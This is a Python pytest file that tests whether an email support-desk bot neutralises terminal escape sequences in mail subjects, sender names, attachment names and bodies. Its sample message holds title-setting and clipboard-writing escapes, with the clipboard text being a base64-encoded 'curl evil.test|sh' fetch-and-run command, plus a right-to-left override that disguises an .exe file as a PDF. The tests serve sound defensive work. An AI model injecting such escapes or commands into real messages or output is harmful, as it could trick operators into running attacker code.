"""Escape sequences in mail never reach the operator's terminal: stripped from subjects, names
and file names where they are stored, and shown as visible escapes wherever the CLI prints."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from sqlalchemy import select, update

from bot.config.settings import Mailbox
from bot.desk.facade import Desk
from bot.messages import Identity, Inbound
from bot.model import Actor
from bot.store import tables as t
from channels.email.ingest import EmailIngest
from channels.email.smtp_server import SupportHandler
from tests.integration.cli.support import Cli
from tests.integration.smtp_harness import Smtp

TITLE = "\x1b]0;pwned\x07"  # sets the terminal's window title
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=\x07"  # writes the clipboard

HOSTILE = (
    b'From: "Eve\x1b]0;x\x07" <eve@example.com>\r\n'
    b"To: support@localhost\r\n"
    b"Subject: =?utf-8?q?Invoice=1B]0;pwned=07_overdue=E2=80=AEfdp.exe?=\r\n"
    b"Message-ID: <esc@example.com>\r\n"
    b"MIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="b"\r\n'
    b"\r\n--b\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    b"Please pay \x1b[31mnow\x1b[0m.\r\n"
    b"--b\r\n"
    b"Content-Type: text/plain\r\n"
    b"Content-Disposition: attachment;\r\n"
    b" filename*=utf-8''note%1B]52%3Bc%3BY3VybCBldmlsLnRlc3R8c2g%3D%07.txt\r\n"
    b"\r\nhello\r\n--b--\r\n"
)


@pytest.fixture
def smtp(desk: Desk) -> Iterator[Smtp]:
    ingest = EmailIngest(desk, (Mailbox("support@localhost"),), b"secret")
    server = Smtp(SupportHandler(ingest))
    server.controller.start()
    yield server
    server.controller.stop()
    ingest.close()


def test_control_characters_are_stripped_where_subjects_names_and_file_names_are_stored(smtp, desk):
    assert smtp.send(HOSTILE, sender="eve@example.com") == (250, "2.0.0 SUP-1")
    detail = desk.visible_ticket(Actor.console(), "SUP-1")
    assert detail.ticket.subject == "Invoice]0;pwned overduefdp.exe"
    with desk.store.read() as session:
        assert session.scalar(select(t.Person.name).where(t.Person.email == "eve@example.com")) == "Eve]0;x"
        assert session.scalars(select(t.Attachment.filename)).all() == [
            "note]52;c;Y3VybCBldmlsLnRlc3R8c2g=.txt"
        ]


def test_tickets_show_prints_escapes_visibly_never_raw(smtp, cli: Cli):
    assert smtp.send(HOSTILE, sender="eve@example.com")[0] == 250
    shown = cli.ok("tickets", "show", "SUP-1")
    assert "\x1b" not in shown and "\x07" not in shown
    assert "Please pay \\u001b[31mnow\\u001b[0m." in shown
    as_json = cli.ok("tickets", "show", "SUP-1", "--format", "json")
    assert "\x1b" not in as_json
    assert "Please pay \x1b[31mnow\x1b[0m." in json.loads(as_json)["comments"][0]["body"]


def test_rows_stored_before_the_rule_are_escaped_on_output(desk, cli: Cli, admin):
    """Older rows (and any text the core keeps as written) are still shown safely."""
    desk.receive(Inbound(channel="cli", sender=Identity(email="a@example.com"), subject="x", text="y"))
    with desk.store.transaction() as session:
        session.execute(update(t.Ticket).values(subject=f"old{TITLE}{CLIPBOARD}\u202e"))
    listed = cli.ok("tickets", "list")
    assert "\x1b" not in listed and "\u202e" not in listed
    assert "old\\u001b]0;pwned\\u0007" in listed
